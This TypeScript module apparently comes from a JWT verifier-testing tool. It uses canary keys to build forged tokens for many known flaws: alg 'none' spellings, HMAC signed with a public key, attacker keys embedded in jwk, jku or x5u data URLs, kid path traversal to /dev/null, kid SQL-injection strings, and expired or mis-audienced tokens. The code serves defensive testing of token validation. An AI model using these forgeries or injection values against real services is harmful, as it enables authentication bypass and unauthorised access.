import type { KeyObject } from 'node:crypto';
import { createHmac, createPublicKey } from 'node:crypto';
import { CompactSign } from 'jose';
import type { Forgery } from '../model/attack.ts';
import type { SigningKey } from './mint.ts';
import { breakSignature } from './mint.ts';

/** What forged tokens are made from. The keys are canary keys; a leaked key of somebody else has no place here. */
export interface ForgeInput {
  /** Key of a published canary: its public half is what a stranger knows, its private half makes the well-signed ones. */
  readonly key: SigningKey;
  /** A key that no issuer has published. */
  readonly thief: SigningKey;
  readonly header: Readonly<Record<string, unknown>>;
  readonly claims: Readonly<Record<string, unknown>>;
  /** Seconds since the epoch. */
  readonly now: number;
}

/** One spelling of a forgery. */
export interface Forged {
  /** Tells the spellings of one kind apart; empty when there is only one. */
  readonly spelling: string;
  readonly compact: string;
}

/** Most spellings that one kind has; budgets are estimated with it. */
export const MOST_SPELLINGS = 4;

const HOUR_SECONDS = 3600;

/** Of a token that still fits the request headers of common servers: Node allows 16 KiB in all, nginx 8 KiB a line. */
const OVERSIZED_BYTES = 12 * 1024;

/** The address of a key set that is part of the address itself, so that a verifier that follows it finds the thief's key. */
function dataUrl(type: string, content: string): string {
  return `data:${type};base64,${Buffer.from(content).toString('base64')}`;
}

/** Makes every spelling of one kind of forged token. */
export async function forgeTokens(kind: Forgery, input: ForgeInput): Promise<readonly Forged[]> {
  const spellings = await MAKERS[kind](input);
  return Object.entries(spellings).map(([spelling, compact]) => ({
    spelling: Object.keys(spellings).length === 1 ? '' : spelling,
    compact,
  }));
}

type Maker = (input: ForgeInput) => Promise<Readonly<Record<string, string>>>;

const MAKERS: Readonly<Record<Forgery, Maker>> = {
  'alg-none': async ({ header, claims }) =>
    Object.fromEntries(
      ['none', 'None', 'NONE', 'nOnE'].map((alg) => [alg, `${encoded({ ...header, alg })}.${encoded(claims)}.`]),
    ),
  'no-signature': async (input) => {
    const [header = '', payload = ''] = (await well(input)).split('.');
    return { 'empty signature': `${header}.${payload}.`, 'two parts': `${header}.${payload}` };
  },
  'changed-payload': async (input) => {
    const [header = '', , signature = ''] = (await well(input)).split('.');
    return { '': `${header}.${encoded({ ...input.claims, sub: 'fbcanary-somebody-else' })}.${signature}` };
  },
  'unknown-key': async (input) => ({
    'its own kid': await signed(input.thief, input.header, input.claims),
    'a known kid': await signed(input.thief, { ...input.header, kid: input.key.kid }, input.claims),
    'no kid': await signed(input.thief, { ...input.header, kid: undefined }, input.claims),
  }),
  'hmac-public-key': async (input) => {
    const key = createPublicKey({ key: input.key.publicJwk, format: 'jwk' });
    return Object.fromEntries(
      secretsOf(key, input.key).map(([how, secret]) => [how, hmac(input, { kid: input.key.kid }, secret)]),
    );
  },
  'embedded-jwk': async (input) => ({
    'with a kid of its own': await signed(input.thief, { ...input.header, jwk: input.thief.publicJwk }, input.claims),
    'with a known kid': await signed(
      input.thief,
      { ...input.header, kid: input.key.kid, jwk: { ...input.thief.publicJwk, kid: input.key.kid } },
      input.claims,
    ),
  }),
  jku: async (input) => {
    const keys = JSON.stringify({ keys: [input.thief.publicJwk] });
    return { '': await signed(input.thief, { ...input.header, jku: dataUrl('application/json', keys) }, input.claims) };
  },
  x5u: async (input) => {
    const pem = spkiPem(createPublicKey({ key: input.thief.publicJwk, format: 'jwk' }));
    return {
      '': await signed(input.thief, { ...input.header, x5u: dataUrl('application/x-pem-file', pem) }, input.claims),
    };
  },
  'kid-path': async (input) => ({
    absolute: hmac(input, { kid: '/dev/null' }, Buffer.alloc(0)),
    climbing: hmac(input, { kid: '../../../../../../../../dev/null' }, Buffer.alloc(0)),
  }),
  'kid-sql': async (input) => ({
    union: hmac(input, { kid: "fbcanary' UNION SELECT 'fbcanary' -- " }, Buffer.from('fbcanary')),
    'always true': await signed(input.thief, { ...input.header, kid: "fbcanary' OR '1'='1" }, input.claims),
  }),
  'unknown-crit': async (input) => ({
    '': await signed(input.key, { ...input.header, crit: ['fbcanary'], fbcanary: true }, input.claims),
  }),
  'wrong-audience': async (input) => ({
    another: await well(input, { aud: 'https://fbcanary.invalid' }),
    none: await well(input, { aud: undefined }),
  }),
  'wrong-issuer': async (input) => ({
    another: await well(input, { iss: 'https://fbcanary.invalid' }),
    longer: await well(input, { iss: `${String(input.claims['iss'])}.fbcanary.invalid` }),
    none: await well(input, { iss: undefined }),
  }),
  expired: async (input) => ({
    '': await well(input, { iat: input.now - 2 * HOUR_SECONDS, exp: input.now - HOUR_SECONDS }),
  }),
  'not-yet-valid': async (input) => ({
    '': await well(input, { nbf: input.now + HOUR_SECONDS, exp: input.now + 2 * HOUR_SECONDS }),
  }),
  'no-expiry': async (input) => ({ '': await well(input, { exp: undefined }) }),
  'id-token': async (input) => {
    const { client_id: client, ...claims } = input.claims;
    const idToken = { ...claims, aud: client, azp: client, nonce: 'fbcanary', auth_time: input.now };
    return { '': await signed(input.key, { ...input.header, typ: 'JWT' }, idToken) };
  },
  'other-typ': async (input) => ({
    '': await signed(input.key, { ...input.header, typ: 'logout+jwt' }, input.claims),
  }),
  'duplicate-claims': async (input) => ({
    // RFC 7519 section 4: a parser that does not refuse them takes the last one.
    audience: await twice(input, 'aud', 'https://fbcanary.invalid'),
    expiry: await twice(input, 'exp', input.now - HOUR_SECONDS),
  }),
  empty: async () => ({ 'two dots': '..', 'one dot': '.', 'empty objects': 'e30.e30.' }),
  oversized: async (input) => ({
    '': breakSignature(await well(input, { padding: 'x'.repeat(Math.floor((OVERSIZED_BYTES * 3) / 4)) })),
  }),
};

/** The canary's own claims under its own key, with some of them replaced. */
function well({ key, header, claims }: ForgeInput, replaced: Readonly<Record<string, unknown>> = {}): Promise<string> {
  return signed(key, header, { ...claims, ...replaced });
}

function twice({ key, header, claims }: ForgeInput, name: string, last: unknown): Promise<string> {
  const text = JSON.stringify(claims);
  return signedText(key, header, `${text.slice(0, -1)},${JSON.stringify(name)}:${JSON.stringify(last)}}`);
}

function signed(
  key: SigningKey,
  header: Readonly<Record<string, unknown>>,
  claims: Readonly<Record<string, unknown>>,
): Promise<string> {
  return signedText(key, header, JSON.stringify(claims));
}

function signedText(key: SigningKey, header: Readonly<Record<string, unknown>>, payload: string): Promise<string> {
  // A kid that is given as undefined is left out, which is a spelling of its own.
  const whole = { kid: key.kid, ...header, alg: key.alg };
  return new CompactSign(new TextEncoder().encode(payload))
    .setProtectedHeader(JSON.parse(JSON.stringify(whole)))
    .sign(key.privateKey, { crit: { fbcanary: true } });
}

function hmac({ header, claims }: ForgeInput, replaced: Readonly<Record<string, unknown>>, secret: Buffer): string {
  const input = `${encoded({ ...header, ...replaced, alg: 'HS256' })}.${encoded(claims)}`;
  return `${input}.${createHmac('sha256', secret).update(input).digest('base64url')}`;
}

function secretsOf(key: KeyObject, { publicJwk }: SigningKey): readonly (readonly [string, Buffer])[] {
  const pem = spkiPem(key);
  return [
    ['PEM', Buffer.from(pem)],
    ['PEM without its last line’s end', Buffer.from(pem.trim())],
    ['DER', key.export({ type: 'spki', format: 'der' })],
    ['JWK', Buffer.from(JSON.stringify(publicJwk))],
  ];
}

function spkiPem(key: KeyObject): string {
  return String(key.export({ type: 'spki', format: 'pem' }));
}

function encoded(value: Readonly<Record<string, unknown>>): string {
  return Buffer.from(JSON.stringify(value)).toString('base64url');
}
